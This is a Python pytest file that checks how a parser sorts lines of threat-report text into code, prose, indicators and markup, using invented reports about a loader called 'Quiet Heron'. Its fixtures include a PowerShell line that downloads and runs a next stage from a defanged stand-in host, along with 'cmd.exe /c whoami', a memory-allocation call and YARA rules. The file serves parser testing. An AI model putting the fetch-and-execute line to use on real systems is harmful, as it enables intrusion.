"""What a line reads as (unmask.model.code_lines) and how fenced blocks use it, on texts
written for these tests."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.structure.timing import best_parse_time
from unmask.model.code_lines import LINE_SHAPES, block_is_code, code_runs, line_shape, run_shape
from unmask.model.structure import Structure
from unmask.model.text_structure import text_structure

FENCE = "```"


def _kind(structure: Structure, text: str, needle: str) -> str:
    return structure.kind_at(text.index(needle))


@pytest.mark.parametrize(
    "line",
    [
        "The loader copied itself to C:\\ProgramData\\Cache\\upd.exe before it called home.",
        "Its SHA-256 was 9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d in every sample we saw.",
        "Victims were sent to hxxps://login-portal[.]example/verify and asked for their passwords.",
        "The operators registered quiet-heron[.]example in March and used it for a year.",
        "See https://vendor.example/blog/2024/heron for the first write-up of the group.",
    ],
)
def test_a_sentence_holding_an_indicator_is_prose(line: str) -> None:
    assert line_shape(line) == "prose"


@pytest.mark.parametrize(
    "line",
    [
        "$payload = [System.Convert]::FromBase64String($blob)",
        "Invoke-WebRequest -Uri $url -OutFile $env:TEMP\\a.ps1",
        "rule Quiet_Heron_Loader : loader {",
        "    $s1 = \"heron-config\" ascii wide",
        "    condition:",
        "def decode(blob, key):",
        "for (i = 0; i < len; i++) {",
        "}",
        "key = 0x5A",
        "VirtualAlloc(0, size, 0x3000, 0x40);",
        "mov eax, dword ptr [ebp+8]",
        "00401000  55 8B EC 83 EC 10 53 56",
        "$ python decode.py sample.bin",
        "  -o OUT, --output OUT   where the decoded file is written",
        "cmd.exe /c whoami /all",
    ],
)
def test_statements_read_as_code(line: str) -> None:
    assert line_shape(line) == "code"


@pytest.mark.parametrize(
    "line",
    [
        "bad-host[.]example",
        "* update-check.example (first stage)",
        "203.0.113.77:8443",
        "9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d",
        "C2 server: hxxp://203.0.113.77/gate.php",
        "%APPDATA%\\Heron\\svc.dll",
    ],
)
def test_a_line_that_is_one_indicator(line: str) -> None:
    assert line_shape(line) == "indicator"


def test_markup_and_other_lines() -> None:
    for markup in ("| a | b |", "|===", "| |`203.0.113[.]9` |2024-05-01 |loader", "## Loader", "=== Hashes",
                   '[options="header"]', "----"):
        assert line_shape(markup) == "markup", markup
    assert line_shape("") == "other"
    assert line_shape("REM decode the second stage with the key below") == "other"  # a comment
    assert line_shape("# decode the second stage") == "markup"  # (or a heading: inside a block, like other lines)
    assert line_shape("for the attackers") == "other"  # a keyword of code, but no statement
    assert line_shape("- write a file;") == "other"  # a list item, not a statement
    assert set(LINE_SHAPES) == {"code", "prose", "indicator", "markup", "other"}


def test_the_shape_for_runs_reads_only_what_may_be_a_statement() -> None:
    assert run_shape("condition:") == line_shape("condition:") == "code"
    assert run_shape("Loader Configuration Fields") == "other"
    assert run_shape("The Loader Wrote Its Configuration Into Two Files Here") == "prose"


def test_runs_of_statements_without_fences() -> None:
    code, prose, other = "code", "prose", "other"
    assert code_runs([code, code, "", code, other, code, prose, code]) == [(0, 6)]
    assert code_runs([code, code, other, other, code]) == []  # two lines of another shape end it
    assert code_runs([code, code, None, code]) == []  # a line already placed ends it
    assert code_runs([prose, code, code, code]) == [(1, 4)]


def test_block_judgement() -> None:
    prose = [("prose", 90), ("prose", 120), ("other", 20)]
    script = [("code", 30), ("code", 25), ("other", 10), ("prose", 50)]  # a comment in words
    assert not block_is_code(prose, paired=True)
    assert block_is_code(script, paired=True)
    assert block_is_code([("other", 30), ("other", 40)], paired=True)  # a tool's output
    assert not block_is_code([("other", 30), ("other", 40)], paired=False)
    assert block_is_code([("code", 40), ("code", 30), ("other", 10)], paired=False)


#: A report whose first block lost its closing fence: paired one after the other, the
#: fences enclose the prose and leave the script outside.
OUT_OF_STEP = f"""\
# Quiet Heron's loader

{FENCE}
The first stage arrives as an attachment named invoice.js and runs under wscript.
It fetches a second stage from hxxp://update-check[.]example/a.bin over plain HTTP.
The actor reused this server for months, which let us find three more samples.
{FENCE}
key = 0x5A
out = bytes(b ^ key for b in blob)
open("stage2.bin", "wb").write(out)
{FENCE}
## Victims

The group wrote to finance staff at two shipping firms in Norway in May 2024.
Both firms found the implant on their payroll servers and reported it.
{FENCE}
"""


def test_fences_out_of_step_leave_prose_prose_and_code_code() -> None:
    s = text_structure(OUT_OF_STEP)
    assert _kind(s, OUT_OF_STEP, "The first stage arrives") == "prose"
    assert _kind(s, OUT_OF_STEP, "The actor reused this server") == "prose"
    assert _kind(s, OUT_OF_STEP, "The group wrote to finance staff") == "prose"
    assert _kind(s, OUT_OF_STEP, "key = 0x5A") == "code"
    assert _kind(s, OUT_OF_STEP, "open(\"stage2.bin\"") == "code"
    assert _kind(s, OUT_OF_STEP, "## Victims") == "heading"


SCRIPT_AND_LIST = f"""\
## Loader

{FENCE}powershell
# fetch the next stage and run it from memory
$u = "hxxp://update-check[.]example/b.ps1"
IEX (New-Object Net.WebClient).DownloadString($u)
{FENCE}

The script above ran on every host the actor reached.

## Network indicators

{FENCE}
update-check[.]example
quiet-heron.example
203.0.113.77
{FENCE}
"""


def test_a_fenced_script_is_code_and_a_fenced_indicator_list_is_a_list() -> None:
    s = text_structure(SCRIPT_AND_LIST)
    assert _kind(s, SCRIPT_AND_LIST, "# fetch the next stage") == "code"
    assert _kind(s, SCRIPT_AND_LIST, "IEX (New-Object") == "code"
    assert _kind(s, SCRIPT_AND_LIST, "The script above ran") == "prose"
    for host in ("update-check[.]example\n", "quiet-heron.example", "203.0.113.77\n"):
        passage = s.block_at(SCRIPT_AND_LIST.index(host))
        assert passage is not None and passage.kind == "ioc-list" and "code" not in passage.kinds
        # a short line of a block is no heading: the section stays the one above
        assert "heading" not in passage.kinds and passage.section == "Network indicators"


def test_a_short_code_line_opens_no_section() -> None:
    text = f"## Setup\n\n{FENCE}\nimport os\nmain()\n{FENCE}\n\nThe tool then wrote its log to the disk of the host.\n"
    s = text_structure(text)
    after = s.block_at(text.index("The tool then wrote"))
    assert after is not None and after.section == "Setup"
    assert all("heading" not in p.kinds for p in s if p.kind == "code")


#: A page of a PDF's text: a detection rule quoted without fences, between two paragraphs.
UNFENCED = """\
Detection

The loader keeps its configuration in a file next to the service binary.
rule Quiet_Heron_Config
{
strings:
$a = "heron-cfg" ascii
$b = { 4D 5A 90 00 }
condition:
all of them
}
Defenders who find the file should look for the scheduled task the loader adds.
"""


def test_a_rule_quoted_without_fences_is_code() -> None:
    s = text_structure(UNFENCED)
    for line in ("rule Quiet_Heron_Config", "strings:", '$b = { 4D', "condition:", "all of them"):
        assert _kind(s, UNFENCED, line) == "code", line
    assert _kind(s, UNFENCED, "The loader keeps") == "prose"
    assert _kind(s, UNFENCED, "Defenders who find") == "prose"
    after = s.block_at(UNFENCED.index("Defenders who find"))
    assert after is not None and after.section == "Detection"  # "strings:" and "condition:" open no section


def test_a_command_at_a_prompt_stays_code_in_a_block_of_prose() -> None:
    text = (f"{FENCE}\nThe operators typed the command below on the server of the victim.\n"
            f"They then waited for the scan to finish before they moved on.\n$ nmap -sS 10.0.0.0/24\n{FENCE}\n")
    s = text_structure(text)
    assert _kind(s, text, "The operators typed") == "prose"
    assert _kind(s, text, "$ nmap") == "code"


@pytest.mark.parametrize(
    "unit",
    [f"{FENCE}\nfor (i = 0; i < n; i++) {{\n{FENCE}\nThe group sent a lure to staff in May.\n",
     f"{FENCE}\n", "x(\n", f"{FENCE}\n" + "{" * 300 + "\n"],
)
def test_blocks_are_read_in_linear_time(unit: str) -> None:
    assert best_parse_time(unit * 8_000) < 8 * max(best_parse_time(unit * 2_000), 0.005)


def test_a_line_is_read_in_bounded_time_whatever_its_length() -> None:
    one_line = f"{FENCE}\n" + "x(" * 500_000 + f"\n{FENCE}\n"  # 1 MB on one line, inside a block
    t0 = time.process_time()
    assert line_shape(one_line.split("\n")[1]) in LINE_SHAPES
    structure = text_structure(one_line)
    assert time.process_time() - t0 < 5
    assert structure.length == len(one_line)
    per_char = f"{FENCE}\n" + "x\n" * 200_000 + f"{FENCE}\n"  # a line per character, inside a block
    t0 = time.process_time()
    text_structure(per_char)
    assert time.process_time() - t0 < 20


@given(st.text(alphabet=st.sampled_from(list("ab Z09 .:;=${}()[]<>|#-*`\\/\n\t\"'")), max_size=400))
@settings(max_examples=300)
def test_any_line_has_one_shape_and_any_block_a_verdict(text: str) -> None:
    for line in text.split("\n"):
        assert line_shape(line) in LINE_SHAPES
        assert run_shape(line) in LINE_SHAPES
    shapes = [line_shape(line) if line.strip() else "" for line in text.split("\n")]
    for first, end in code_runs(shapes):
        assert 0 <= first < end <= len(shapes) and shapes[first] == shapes[end - 1] == "code"
    assert block_is_code([(s or "other", 1) for s in shapes], paired=True) in (True, False)
    structure = text_structure(text)
    assert all(p.kind in p.kinds for p in structure.passages)
